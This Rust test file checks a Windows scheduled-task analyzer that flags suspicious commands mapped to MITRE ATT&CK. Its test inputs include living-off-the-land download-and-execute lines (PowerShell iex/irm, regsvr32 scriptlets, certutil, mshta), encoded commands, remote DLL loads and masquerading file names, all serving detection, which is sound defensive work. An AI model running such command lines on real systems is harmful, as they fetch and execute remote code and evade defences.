//! What is found of single commands. The techniques are public (MITRE ATT&CK, the project LOLBAS); the inputs are our own.

use wintask::{
    definition::{Exec, Principal, Task},
    finding::Severity,
    reconcile::examine,
};

/// The codes without the room, for a task as SYSTEM or as a user.
fn codes(command: &str, arguments: &str, is_system: bool) -> Vec<&'static str> {
    let exec = Exec::new(command);
    let exec = if arguments.is_empty() { exec } else { exec.with_arguments(arguments) };
    let account = if is_system { "S-1-5-18" } else { r"CONTOSO\alice" };
    let task = Task { principals: vec![Principal::user(account)], ..Task::new(exec) };
    examine(&task).iter().map(|finding| finding.code().strip_prefix("examine.").unwrap()).collect()
}

/// Rows of a command, its arguments, and all findings.
type Rows = &'static [(&'static str, &'static str, &'static [&'static str])];

fn check(rows: Rows, is_system: bool) {
    let wrong: Vec<_> = rows
        .iter()
        .map(|(command, arguments, expected)| {
            (command, arguments, codes(command, arguments, is_system), expected)
        })
        .filter(|(_, _, found, expected)| found != *expected)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// T1574.010 and T1053.005: folders that users may write to, in every spelling that leads there.
#[test]
fn writable_places() {
    const FOUND: &[&str] = &["user_writable.privileged"];
    let spellings = [
        r"C:\Users\Public\a.exe",
        r"c:\USERS\public\A.EXE",
        "C:/Users/Public/a.exe",
        r"  C:\Users\Public\a.exe  ",
        r#""C:\Users\Public\a.exe""#,
        r"C:\Users\Public\a.exe.",
        r"\Users\Public\a.exe",
        r"D:\Users\bob\a.exe",
        r"\\?\C:\Users\Public\a.exe",
        r"\\.\C:\Users\Public\a.exe",
        r"\\localhost\C$\Users\Public\a.exe",
        r"\\127.0.0.1\c$\Users\Public\a.exe",
        r"C:\Windows\..\Users\Public\a.exe",
        r"C:\.\Users\.\Public\a.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\..\..\x\a.exe",
        r"%SystemDrive%\Users\Public\a.exe",
        r"%HOMEDRIVE%%HOMEPATH%\a.exe",
        r"%public%\a.exe",
        r"%TEMP%\a.exe",
        r"%tmp%\a.exe",
        r"%AppData%\a.exe",
        r"%LOCALAPPDATA%\a.exe",
        r"%userprofile%\Downloads\a.exe",
        r"%OneDrive%\a.exe",
        r"%ProgramData%\a.exe",
        r"%AllUsersProfile%\a.exe",
        r"C:\PROGRA~3\a.exe",
        r"C:\DOCUME~1\ALLUSE~1\a.exe",
        r"C:\Documents_and_Settings\..\ProgramData\a.exe",
        r"C:\Temp\a.exe",
        r"C:\tmp\a.exe",
        r"C:\PerfLogs\a.exe",
        r"C:\$Recycle.Bin\S-1-5-21\a.exe",
        r"C:\Windows\Temp\a.exe",
        r"%windir%\Temp\a.exe",
        r"%SystemRoot%\Tasks\a.exe",
        r"%SystemRoot%\System32\spool\drivers\color\a.exe",
        r"%SystemRoot%\System32\Tasks\a.exe",
        r"%SystemRoot%\tracing\a.exe",
    ];
    for command in spellings {
        assert_eq!(codes(command, "", true), FOUND, "{command}");
        assert_eq!(codes(command, "", false), ["user_writable"], "{command}");
    }
    for command in [
        r"C:\Program_Files\Vendor\Users\a.exe",
        r"C:\Program_Files\Vendor\Temp\a.exe",
        r"C:\Windows\System32\a.exe",
        r"%SystemRoot%\System32\a.exe",
        r"%windir%\a.exe",
        r"C:\ProgramData\Microsoft\Windows_Defender\..\..\..\Windows\a.exe",
        r"%ProgramData%\..\Windows\a.exe",
        "a.exe",
        r"%unknown%\a.exe",
        r"C:\UsersOfContoso\a.exe",
    ] {
        assert_eq!(codes(command, "", true), [""; 0], "{command}");
    }
}

/// A script host finds a file without folder in the folder in which it starts.
#[test]
fn working_directories() {
    for (command, arguments, folder, is_found) in [
        ("powershell", "-File a.ps1", r"C:\Users\Public", true),
        ("powershell", "-File a.ps1", r"%TEMP%\", true),
        ("cmd", "/c \"a.bat\" > out.txt", r#""C:\ProgramData\Contoso""#, true),
        ("rundll32", "a.dll,Run", r"C:\Temp", true),
        ("powershell", r"-File C:\App\a.ps1", r"C:\Users\Public", false),
        ("powershell", "-File a.ps1", r"C:\App", false),
        ("cmd", "/c dir", r"C:\Users\Public", false),
        (r"C:\App\a.exe", "a.ps1", r"C:\Users\Public", false),
    ] {
        let exec = Exec {
            working_directory: Some(folder.to_owned()),
            ..Exec::new(command).with_arguments(arguments)
        };
        let task = Task { principals: vec![Principal::user("S-1-5-18")], ..Task::new(exec) };
        let found = examine(&task).iter().any(|finding| finding.code() == "examine.user_writable.privileged");
        assert_eq!(found, is_found, "{command} {arguments} in {folder}");
    }
}

/// T1059, T1218, T1216: programs that run code, by every way to write their names, and what they get.
#[test]
fn programs_that_run_code() {
    check(
        &[
            ("CMD.EXE", "/c x", &["script_host"]),
            ("%ComSpec%", "/c x", &["script_host"]),
            (r"C:\Windows\System32\cmd.exe ", "", &["script_host"]),
            (r"C:/Windows/System32/cmd.exe", "", &["script_host"]),
            (r"C:\Windows\System32\WindowsPowerShell\v1.0\POWERS~1.EXE", "", &["script_host"]),
            ("powershell.exe -File x.ps1", "", &["script_host"]),
            (r"C:\Scripts\a.bat", "", &["script_host"]),
            (r"C:\Scripts\a.vbs", "", &["script_host"]),
            ("wscript", "//B //E:vbscript a.txt", &["script_host"]),
            ("mshta", "a.hta", &["proxy_binary"]),
            ("mshta.exe", "https://example.org/a", &["proxy_binary", "remote"]),
            ("mshta.exe", "HTTPS:\\\\example.org\\a", &["proxy_binary", "remote"]),
            ("mshta.exe", "vbscript:Execute(\"x\")", &["proxy_binary", "inline_script"]),
            (
                "rundll32.exe",
                r#"javascript:"\..\mshtml,RunHTMLApplication ";x"#,
                &["proxy_binary", "inline_script"],
            ),
            ("rundll32.exe", r"C:\Windows\System32\x.dll,Run", &["proxy_binary"]),
            ("rundll32.exe", r"C:\Users\Public\x.dll,Run", &["user_writable.privileged", "proxy_binary"]),
            ("rundll32.exe", r"\\203.0.113.7\s\x.dll,Run", &["proxy_binary", "remote_program"]),
            (
                "rundll32.exe",
                r"\\203.0.113.7@80\DavWWWRoot\x.dll,Run",
                &["proxy_binary", "remote", "remote_program"],
            ),
            ("rundll32.exe", r"\\example.org@SSL\s\x.dll,Run", &["proxy_binary", "remote", "remote_program"]),
            (
                "regsvr32",
                "/s /n /u /i:http://example.org/a.sct scrobj.dll",
                &["proxy_binary", "remote", "inline_script"],
            ),
            ("regsvr32", r"/s C:\x.dll", &["proxy_binary"]),
            ("certutil.exe", "-urlcache -split -f http://example.org/a b", &["proxy_binary", "remote"]),
            ("bitsadmin", "/transfer x ftp://example.org/a C:\\a", &["proxy_binary", "remote"]),
            ("BITSAD~1.EXE", "/list", &["proxy_binary"]),
            ("wmic", "process call create calc.exe", &["proxy_binary"]),
            ("wmic.exe", r#"os get /format:"https://example.org/a.xsl""#, &["proxy_binary", "remote"]),
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
                r"%TEMP%\a.csproj",
                &["user_writable.privileged", "proxy_binary"],
            ),
            (
                "installutil",
                r"/logfile= /u C:\Users\Public\a.dll",
                &["user_writable.privileged", "proxy_binary"],
            ),
            ("msiexec", "/q /i https://example.org/a.msi", &["proxy_binary", "remote"]),
            ("cmstp", r"/s C:\ProgramData\a.inf", &["user_writable.privileged", "proxy_binary"]),
            ("pcalua.exe", r"-a C:\Users\Public\a.exe", &["user_writable.privileged", "proxy_binary"]),
            ("forfiles", r"/p c:\windows /m notepad.exe /c calc", &["proxy_binary"]),
            ("cmd", r"/c \\host\s\a.bat", &["script_host", "remote_program"]),
            ("powershell", r"-ep bypass -File \\host\s\a.ps1", &["script_host", "remote_program"]),
            ("cmd", r"/c copy C:\a \\host\s\a", &["script_host"]),
            ("powershell", r"-Command Copy-Item C:\a \\host\s\a", &["script_host"]),
            ("powershell", "-c iex (irm https://example.org/a)", &["script_host", "remote"]),
            ("powershell", "-c irm http://localhost:8080/a", &["script_host"]),
            ("powershell", r"-File $env:TEMP\a.ps1", &["user_writable.privileged", "script_host"]),
            ("cmd", r"/c type a > C:\Users\Public\a.txt", &["script_host"]),
            ("python.exe", r"C:\ProgramData\a.py", &["user_writable.privileged", "script_host"]),
            ("AutoIt3.exe", r"C:\Users\Public\a.a3x", &["user_writable.privileged", "script_host"]),
            ("java", r#"-jar "C:\ProgramData\a b\a.jar""#, &["user_writable.privileged", "script_host"]),
            ("cmd", r"/c start C:\Users\Public\a", &["user_writable.privileged", "script_host"]),
            ("cmd", r#"/c ""C:\Users\a b\a.bat" x""#, &["user_writable.privileged", "script_host"]),
            (
                "powershell",
                r"-c iex (Get-Content C:\Users\Public\a.txt)",
                &["user_writable.privileged", "script_host"],
            ),
            (
                "powershell",
                r#"-Command "& 'C:\Users\a b\a.ps1'""#,
                &["user_writable.privileged", "script_host"],
            ),
            ("wscript", r"//E:vbscript C:\Users\Public\a.txt", &["user_writable.privileged", "script_host"]),
            (r"\\host\share\a.exe", "", &["remote_program"]),
            (r"\\?\UNC\host\share\a.exe", "", &["remote_program"]),
            (r"//host/share/a.exe", "", &["remote_program"]),
            (r"\\example.org@SSL\DavWWWRoot\a.exe", "", &["remote_program"]),
        ],
        true,
    );
}

/// T1027.010: encoded commands, with the switch in every form that PowerShell accepts, and what only looks like one.
#[test]
fn encoded_commands() {
    // whoami; UTF-16LE.
    const BASE64: &str = "dwBoAG8AYQBtAGkA";
    for switch in [
        "-e",
        "-ec",
        "-en",
        "-enc",
        "-EncodedCommand",
        "-eNcOdEdCoMm",
        "/enc",
        "/e",
        "--enc",
        "\u{2013}enc",
        "\u{2014}e",
        "\u{2015}ec",
    ] {
        for arguments in [
            format!("{switch} {BASE64}"),
            format!("-NoP -W Hidden -ep bypass {switch} \"{BASE64}\""),
            format!("  {switch}   '{BASE64}'"),
        ] {
            let found = codes("powershell.exe", &arguments, false);
            assert_eq!(found, ["script_host", "encoded_command"], "{arguments}");
        }
    }
    const LONG: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    let shell = &["script_host", "encoded_command"][..];
    for (command, arguments, expected) in [
        ("pwsh", format!("-e {BASE64}"), shell),
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", format!("-e {BASE64}"), shell),
        ("cmd.exe", format!("/c powershell -e {BASE64}"), shell),
        ("cmd.exe", format!("/c p^o^w^e^r^s^h^e^l^l -e^nc {BASE64}"), shell),
        (
            "cmd.exe",
            format!("/c \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc {BASE64}"),
            shell,
        ),
        ("powershell", format!("-Command \"powershell -enc {BASE64}\""), shell),
        (
            "powershell",
            format!("-c iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{BASE64}')))"),
            shell,
        ),
        ("conhost", format!("--headless powershell -enc {BASE64}"), &["proxy_binary", "encoded_command"]),
        ("a.exe", format!("-enc {LONG}"), &["encoded_command"]),
        ("a.exe", format!("-x {LONG}=="), &["encoded_command"]),
        // What follows the script belongs to it.
        ("powershell", "-File C:\\Scripts\\a.ps1 -e Production1".to_owned(), &["script_host"]),
        ("powershell", "-Command C:\\Scripts\\a.ps1 -Environment Production1".to_owned(), &["script_host"]),
        ("powershell", "-ExecutionPolicy Bypass -File a.ps1".to_owned(), &["script_host"]),
        ("powershell", "-ex RemoteSigned -File a.ps1".to_owned(), &["script_host"]),
        ("powershell", "-enc %1".to_owned(), &["script_host"]),
        ("a.exe", "-e dGVzdHRlc3R0ZXN0dGVzdHRlc3R0ZXN0dGVzdA==".to_owned(), &[]),
        ("a.exe", "/update 0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF".to_owned(), &[]),
        ("a.exe", format!("-e {BASE64}"), &[]),
    ] {
        assert_eq!(codes(command, &arguments, false), expected, "{command} {arguments}");
    }
}

/// T1552.001: passwords in arguments, and what only looks like one.
#[test]
fn credentials() {
    for (command, arguments) in [
        ("a.exe", "/password:Secret1"),
        ("a.exe", "-Password Secret1"),
        ("a.exe", "--password=Secret1"),
        ("a.exe", "--db-password Secret1"),
        ("a.exe", "-pwd \"Secret 1\""),
        ("a.exe", "/pass=Secret1"),
        ("a.exe", "Server=x;User Id=sa;Password=Secret1;"),
        ("a.exe", "\"Server=x;UID=sa;PWD=Secret1\""),
        ("a.exe", "https://bob:Secret1@example.org/x"),
        ("a.exe", "ftp://bob:Secret1@example.org"),
        ("net.exe", r"use \\host\s Secret1 /user:CONTOSO\bob"),
        ("net", r"use Z: \\host\s /user:bob Secret1 /persistent:no"),
        ("cmd.exe", r"/c net use \\host\s Secret1 /user:bob && a.exe"),
        ("psexec.exe", r"\\host -u bob -p Secret1 cmd"),
        ("plink.exe", "-pw Secret1 host"),
        ("schtasks.exe", "/create /ru bob /rp Secret1"),
        ("cmdkey.exe", "/add:host /user:bob /pass:Secret1"),
        ("wmic.exe", "/node:h /user:bob /password:Secret1 os"),
        ("sqlcmd.exe", "-S host -U sa -P Secret1"),
        ("sqlcmd.exe", "-PSecret1"),
        (r"C:\mysql\bin\mysqldump.exe", "-u root -pSecret1 db"),
        ("cmd.exe", r"/c C:\mysql\bin\mysqldump.exe -uroot -pSecret1 db"),
        ("powershell", "-c ConvertTo-SecureString 'Secret1' -AsPlainText -Force"),
        ("powershell", "-c ConvertTo-SecureString -String 'Secret1' -AsPlainText -Force"),
    ] {
        assert!(codes(command, arguments, false).contains(&"credential"), "{command} {arguments}");
    }
    for (command, arguments) in [
        ("a.exe", "-password %1 --pass"),
        ("a.exe", "/password:$(pw)"),
        ("a.exe", "--password-file C:\\a.txt"),
        ("a.exe", "-NoPassword x"),
        ("a.exe", "-p 8080"),
        ("a.exe", "--port 8080 -path C:\\a"),
        ("a.exe", "Server=x;Trusted_Connection=yes;Password=;"),
        ("a.exe", "https://example.org/a?b=c@d:e"),
        ("net.exe", r"use Z: \\host\s /persistent:no"),
        ("net.exe", r"use \\host\s * /user:bob"),
        ("net.exe", r"use \\host\s /user:bob"),
        ("net.exe", "user bob /active:no"),
        ("sqlcmd.exe", "-S host -E -p 1"),
        (r"C:\mysql\bin\mysqldump.exe", "-u root -P 3306 --protocol=tcp db"),
        ("powershell", "-c ConvertTo-SecureString $text -AsPlainText -Force"),
        ("powershell", "-c Read-Host -AsSecureString"),
    ] {
        assert!(!codes(command, arguments, false).contains(&"credential"), "{command} {arguments}");
    }
}

/// T1036 and T1564.004: names that are made to look like others, and alternate data streams.
#[test]
fn disguises() {
    check(
        &[
            (r"C:\x\report.pdf.exe", "", &["disguised"]),
            (r"C:\x\report.pdf.exe ", "", &["disguised"]),
            ("C:\\x\\report.pdf          .exe", "", &["disguised"]),
            (r"C:\x\photo.jpg.scr", "", &["disguised"]),
            (r"C:\x\invoice.docx.vbs", "", &["script_host", "disguised"]),
            ("C:\\x\\annual\u{202E}fdp.exe", "", &["disguised"]),
            (r"C:\x\svchost.exe", "", &["disguised"]),
            (r"C:\Windows\svchost.exe", "", &["disguised"]),
            (r"C:\Program_Files\x\lsass.exe", "", &["disguised"]),
            (r"C:\x\explorer.exe", "", &["disguised"]),
            (r"C:\Windows\System32\scvhost.exe", "", &["disguised"]),
            (r"C:\x\svch0st.exe", "", &["disguised"]),
            (r"C:\x\lsasss.exe", "", &["disguised"]),
            (r"C:\x\rund1l32.exe", "", &["disguised"]),
            (r"C:\x\a.txt:b.exe", "", &["stream"]),
            (r"C:\a.txt:b.exe", "", &["stream"]),
            (r"%windir%\System32\a.log:b.exe", "", &["stream"]),
            ("wscript.exe", r"C:\x\a.txt:b.vbs", &["script_host", "stream"]),
            ("rundll32.exe", r#""C:\x\a.txt:b.dll",Run"#, &["proxy_binary", "stream"]),
            // Not these.
            (r"C:\Windows\System32\svchost.exe", "-k netsvcs", &[]),
            (r"%SystemRoot%\SysWOW64\dllhost.exe", "", &[]),
            (r"C:\Windows\explorer.exe", "", &[]),
            ("svchost.exe", "", &[]),
            (r"system32\svchost.exe", "", &[]),
            (r"%unknown%\svchost.exe", "", &[]),
            (r"C:\x\a.b.exe", "", &[]),
            (r"C:\x\Vendor.Update.1.2.exe", "", &[]),
            (r"C:\x\service.exe", "", &[]),
            (r"C:\x\a.txt::$DATA", "", &[]),
            ("wmic.exe", "/user:bob /format:list", &["proxy_binary"]),
            ("cmd.exe", r"/c a.exe /host:b http://localhost:80", &["script_host"]),
        ],
        false,
    );
}

/// T1053.005: the output of a command as SYSTEM is fetched over the network, as atexec and the tools that follow it do.
#[test]
fn fetched_output() {
    for arguments in [
        r"/C whoami > %windir%\Temp\aBcDeFgH.tmp 2>&1",
        r"/c whoami > C:\Windows\Temp\aBcDeFgH.tmp 2>&1",
        r"/Q /c whoami 1> \Windows\Temp\aBcDeFgH 2>&1",
        r"/C whoami > \\127.0.0.1\ADMIN$\__1678 2>&1",
        r"/C whoami 1> \\127.0.0.1\C$\__1678 2>&1",
        r"/C powershell -c x > %SystemRoot%\Temp\a.tmp 2>&1",
    ] {
        for command in ["cmd.exe", "%COMSPEC%", r"C:\Windows\System32\cmd.exe"] {
            let found = codes(command, arguments, true);
            assert_eq!(found, ["script_host", "shape.atexec_like"], "{command} {arguments}");
        }
        assert_eq!(codes("cmd.exe", arguments, false), ["script_host"], "{arguments}");
    }
    for arguments in [
        r"/c a > C:\Logs\a.tmp 2>&1",
        r"/c a > %windir%\Temp\a.log 2>&1",
        r"/c a > %windir%\Temp\a.tmp",
        r"/c a 2>&1",
    ] {
        assert_eq!(codes("cmd.exe", arguments, true), ["script_host"], "{arguments}");
    }
}

/// Tasks of vendors and administrators, as their products document them: nothing above "info".
#[test]
fn ordinary_tasks() {
    for (command, arguments) in [
        (r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler"),
        (r"C:\Program Files (x86)\Google\GoogleUpdater\128.0.6537.0\updater.exe", "--wake --system"),
        (r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe", "/c"),
        (r"C:\Program Files\Mozilla Firefox\default-browser-agent.exe", "do-task \"308046B0AF4A39CB\""),
        (r"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe", ""),
        (
            r"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe",
            "/frequentupdate SCHEDULEDTASK displaylevel=False",
        ),
        (r"C:\Program Files\Microsoft Office\root\Office16\sdxhelper.exe", "/onlogon"),
        (r"C:\Program Files\Microsoft OneDrive\OneDriveStandaloneUpdater.exe", "/reporting"),
        (
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24080.9-0\MpCmdRun.exe",
            "Scan -ScheduleJob -RestrictPrivileges",
        ),
        (r"%ProgramFiles%\Windows Defender\MpCmdRun.exe", "-IdleTask -TaskName WdCacheMaintenance"),
        (
            r"%windir%\system32\rundll32.exe",
            r"%windir%\system32\appxdeploymentclient.dll,AppxPreStageCleanupRunTask",
        ),
        (r"%windir%\System32\wsqmcons.exe", ""),
        (r"%windir%\system32\cmd.exe", r#"/d /c C:\Windows\system32\silcollector.cmd publish"#),
        (
            r"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe",
            r#"-ExecutionPolicy Unrestricted -NonInteractive -NoProfile -WindowStyle Hidden "& %windir%\system32\WDI\ScriptedDiagnostics.ps1""#,
        ),
        (
            r"powershell.exe",
            r#"-NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Contoso\Backup\Backup.ps1" -Target E:\Backup -Verbose"#,
        ),
        (
            r"powershell.exe",
            r#"-NoProfile -NonInteractive -Command "& 'C:\Program Files\Contoso\Cleanup.ps1' -Days 30 | Out-File C:\Logs\cleanup.log""#,
        ),
        (
            r"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Manager.exe",
            "backup 1a7d6a6e-3a2c-4d8f-9d8e-0c6c3f1f2b5a",
        ),
        (
            r"C:\Program Files\Macrium\Reflect\ReflectBin.exe",
            r#"-e -w -full "C:\Backup\My Backup.xml" -g 1234"#,
        ),
        (r"C:\Windows\System32\robocopy.exe", r"D:\Data \\nas\backup /MIR /R:1 /W:1 /LOG:C:\Logs\a.log"),
        ("powershell.exe", r#"-File "C:\Program Files\Contoso\a.ps1" -LogPath C:\ProgramData\Contoso\Logs"#),
        ("powershell.exe", r"-File C:\Scripts\a.ps1 -Report C:\Users\Public\a.csv"),
        ("cmd.exe", r#"/c "C:\Program Files\x\a.bat" C:\ProgramData\x\data"#),
        ("java", r#"-jar "C:\Program Files\x\a.jar" --config C:\ProgramData\x\a.properties"#),
        ("node.exe", r#""C:\Program Files\x\agent.js" --server https://example.org"#),
        ("python", r#""C:\Program Files\x\a.py" --out C:\ProgramData\x\a.json"#),
        ("wbadmin", r"start backup -backupTarget:\\nas\backup -include:C: -quiet"),
        (r"C:\Windows\System32\defrag.exe", "-c -h -k -g -$"),
        (r"%windir%\system32\sc.exe", "start w32time task_started"),
        (r"C:\Program Files\Git\usr\bin\bash.exe", "-lc backup"),
        (
            r"C:\Program Files\PowerShell\7\pwsh.exe",
            r#"-File "C:\Program Files\Contoso\a.ps1" -Environment Production"#,
        ),
        (
            r"C:\Program Files\Java\jre\bin\java.exe",
            r#"-jar "C:\Program Files\x\a.jar" --config=C:\x\a.properties"#,
        ),
        (r"C:\Windows\System32\cscript.exe", r#"//B //NoLogo "C:\Program Files\Contoso\a.vbs""#),
        (r"C:\Windows\System32\msiexec.exe", r#"/i "C:\Program Files\x\a.msi" /qn"#),
    ] {
        let task = Task {
            principals: vec![Principal::user("S-1-5-18")],
            ..Task::new(Exec::new(command).with_arguments(arguments))
        };
        let worst = examine(&task).worst();
        assert!(
            worst <= Some(Severity::Info),
            "{command} {arguments}: {:?}",
            codes(command, arguments, true)
        );
    }
    let user = codes(r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "/reporting", false);
    assert_eq!(user, ["user_writable"]);
}
